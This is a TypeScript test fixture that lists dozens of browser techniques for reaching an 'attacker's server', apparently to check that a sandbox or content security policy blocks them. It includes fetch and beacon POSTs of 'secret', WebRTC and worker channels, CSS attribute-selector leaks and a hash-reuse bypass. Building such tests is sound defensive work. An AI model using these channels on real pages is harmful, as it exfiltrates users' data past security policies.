import type { Programs } from './program.ts';

/** Programs that call the attacker's server from scripts. */
export const CALLS: Programs = {
  'posts by fetch': ({ out }) => fetch(out, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  'posts by XMLHttpRequest': ({ out }) => {
    const request = new XMLHttpRequest();
    request.open('POST', out);
    request.send('secret');
  },
  'posts by beacon': ({ out }) => navigator.sendBeacon(out, 'secret'),
  'posts when the page is left': ({ out }) =>
    fetch(out, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
  'opens a WebSocket': ({ out }) => new WebSocket(out.replace('http', 'ws')),
  'opens an EventSource': ({ out }) => new EventSource(out),
  'calls from a worker': ({ out }) => {
    const code = `fetch(${JSON.stringify(out)}, { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  'calls from a worker of data': ({ out }) =>
    new Worker(`data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(out))},{mode:'no-cors'})`),
  'calls from a shared worker': ({ out }) => {
    const code = `fetch(${JSON.stringify(out)}, { mode: 'no-cors' })`;
    return new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  'imports a module': ({ out }) => import(out),
  'fetches a font by script': ({ out }) => new FontFace('spy', `url(${out})`).load(),
  'talks WebRTC': ({ stun }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
    peer.createDataChannel('spy');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'talks WebRTC out of a nested frame': ({ add, stun }) => {
    const { RTCPeerConnection: Peer } = add('iframe').contentWindow as Window & typeof globalThis;
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
    peer.createDataChannel('spy');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'talks WebRTC out of a nested document': ({ add, stun }) => {
    const code = `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
      p.createDataChannel('spy'); p.createOffer().then((o) => p.setLocalDescription(o));`;
    add('iframe', { srcdoc: `<script>${code}</script>` });
  },
  'talks WebRTC out of its own script again': ({ add, stun }) => {
    // A policy that allows the frame's first script by its hash also allows it in a nested document.
    const frame = add('iframe', { srcdoc: [...document.scripts].map((script) => script.outerHTML).join('') });
    frame.onload = () => {
      const port = new MessageChannel();
      const code = `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] }).createDataChannel('x')`;
      frame.contentWindow?.postMessage({ type: 'start', code, files: {} }, '*', [port.port2]);
    };
  },
};

/** Programs that make an element call the attacker's server. */
export const ELEMENTS: Programs = {
  'asks for an image': ({ out }) => void Object.assign(new Image(), { src: out }),
  'asks for an image of a set': ({ write, out }) => write(`<picture><source srcset="${out}"><img alt=""></picture>`),
  'asks for an image of SVG': ({ write, out }) =>
    write(`<svg width="9" height="9"><image href="${out}" width="9"/></svg>`),
  'asks for the picture of a button': ({ write, out }) => write(`<input type="image" src="${out}" alt="">`),
  'asks by a background of CSS': ({ container, out }) => {
    container.style.backgroundImage = `url(${out})`;
  },
  'asks by a cursor of CSS': ({ write, out }) => write(`<i style="content: url(${out})"></i>`),
  'asks by an import of CSS': ({ write, out }) => write(`<style>@import url(${out});</style>`),
  'asks by a rule for each letter of a field': ({ write, out }) =>
    write(`<style>.spy[value^=s] { background: url(${out}) }</style><input class="spy" value="s" aria-label="s">`),
  'asks for a font': ({ write, out }) => {
    write(`<style>@font-face { font-family: spy; src: url(${out}) } .spied { font-family: spy }</style>`);
    write('<p class="spied">s</p>');
  },
  'asks for a style sheet': ({ addToHead, out }) => addToHead('link', { rel: 'stylesheet', href: out }),
  'asks for a preload': ({ addToHead, out }) => addToHead('link', { rel: 'preload', as: 'image', href: out }),
  'asks for a module ahead': ({ addToHead, out }) => addToHead('link', { rel: 'modulepreload', href: out }),
  'asks for a prefetch': ({ addToHead, out }) => addToHead('link', { rel: 'prefetch', href: out }),
  'asks for a name ahead': ({ addToHead, out }) => addToHead('link', { rel: 'dns-prefetch', href: out }),
  'connects ahead': ({ addToHead, out }) => addToHead('link', { rel: 'preconnect', href: out }),
  'asks for an icon': ({ addToHead, out }) => addToHead('link', { rel: 'icon', href: out }),
  'asks for a manifest': ({ addToHead, out }) => addToHead('link', { rel: 'manifest', href: out }),
  'asks by speculation rules': ({ addToHead, out }) => {
    const textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [out], eagerness: 'immediate' }] });
    addToHead('script', { type: 'speculationrules', textContent });
  },
  'asks for a script': ({ addToHead, out }) => addToHead('script', { src: out }),
  'asks for a module': ({ addToHead, out }) => addToHead('script', { type: 'module', src: out }),
  'asks for a film': ({ write, out }) => write(`<video src="${out}" preload="auto" muted></video>`),
  'asks for the picture of a film': ({ write, out }) => write(`<video poster="${out}"></video>`),
  'asks for a sound': ({ out }) => new Audio(out).load(),
  'asks for an object': ({ write, out }) => write(`<object data="${out}" type="text/html"></object>`),
  'asks for an embedded document': ({ write, out }) => write(`<embed src="${out}" type="text/html">`),
  'asks for a frame': ({ add, out }) => void add('iframe', { src: out }),
  'asks out of a nested document': ({ add, out }) => void add('iframe', { srcdoc: `<img src="${out}" alt="">` }),
  'asks out of a document of data': ({ add, out }) =>
    void add('iframe', { src: `data:text/html,${encodeURIComponent(`<img src="${out}" alt="">`)}` }),
  'leads a nested document away': ({ add, out }) =>
    void add('iframe', { srcdoc: `<meta http-equiv="refresh" content="0; url=${out}">` }),
  'sends a form into a frame': ({ container, write, out }) => {
    write('<iframe name="spy"></iframe>');
    write(`<form action="${out}" method="post" target="spy"><input name="s" value="s"></form>`);
    container.querySelector('form')?.submit();
  },
};

/** Programs that navigate a document to the attacker's server. Each ends its page, so each runs alone. */
export const NAVIGATIONS: Programs = {
  'opens a window': ({ out }) => window.open(out),
  'opens a window by a link': ({ add, out }) => add('a', { href: out, target: '_blank', textContent: 's' }).click(),
  'sends a form into a window': ({ add, out }) =>
    add('form', { action: out, target: '_blank', method: 'post' }).submit(),
  'pings by a link': ({ add, out }) => add('a', { href: '#here', ping: out, textContent: 's' }).click(),
  'leads its document away': ({ out }) => {
    location.href = out;
  },
  'leads its document away by a refresh': ({ addToHead, out }) =>
    addToHead('meta', { httpEquiv: 'refresh', content: `0; url=${out}` }),
  'leads its document away by a form': ({ add, out }) => add('form', { action: out, method: 'post' }).submit(),
  'leads the top away': ({ out }) => {
    (top ?? window).location.href = out;
  },
  'leads the top away by a link': ({ add, out }) => add('a', { href: out, target: '_top', textContent: 's' }).click(),
  'downloads by a link': ({ add, out }) => add('a', { href: out, download: 's', textContent: 's' }).click(),
};
